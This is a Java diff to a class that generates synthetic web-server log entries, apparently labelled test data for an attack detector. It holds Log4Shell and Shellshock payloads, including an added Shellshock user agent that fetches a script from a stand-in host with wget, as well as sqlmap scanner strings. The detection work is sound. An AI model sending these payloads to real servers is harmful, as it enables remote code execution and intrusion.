@@ -91,6 +91,8 @@ final class Corpus {
     m.put("203.0.113.40", List.of(ua("/", "${jndi:ldap://x/a}", true), ok("/news/")));
     m.put("203.0.113.41", List.of(
         new Req("GET", "/cgi-bin/status", "HTTP/1.1", 404, "() { :; }; /bin/bash -c id", BROWSER, true), ok("/")));
+    m.put("203.0.113.44", List.of(
+        ua("/cgi-bin/test.cgi", "() { :; }; /bin/bash -c \"wget http://x.example/a.sh\"", true), ok("/")));
     m.put("203.0.113.42", List.of(
         ua("/item.php?id=1", "sqlmap/1.7.2#stable (https://sqlmap.org)", true),
         ua("/item.php?id=2", "sqlmap/1.7.2#stable (https://sqlmap.org)", true)));
@@ -138,6 +140,9 @@ final class Corpus {
     m.put("crawl-1.search.example", List.of(ok("/robots.txt"), ok("/sitemap.xml"), ok("/")));
     return m;
   }
+
+  /** A user agent with quotes: Apache writes them as \\", nginx as \\x22. */
+  static final String QUOTED_UA = "Mozilla/5.0 (compatible; \"Quoted\" Fetcher/2.0)";
 
   static final String[] PAGES = {
     "/", "/index.html", "/about/", "/images/logo.png", "/css/site.css", "/js/app.js",
@@ -204,7 +209,8 @@ final class Corpus {
     void filler(int n) {
       for (int i = 0; i < n; i++) {
         String host = "10.1." + random.nextInt(4) + "." + (1 + random.nextInt(250));
-        add(host, ok(PAGES[random.nextInt(PAGES.length)]), false);
+        String page = PAGES[random.nextInt(PAGES.length)];
+        add(host, random.nextInt(8) == 0 ? ua(page, QUOTED_UA, false) : ok(page), false);
       }
     }
 
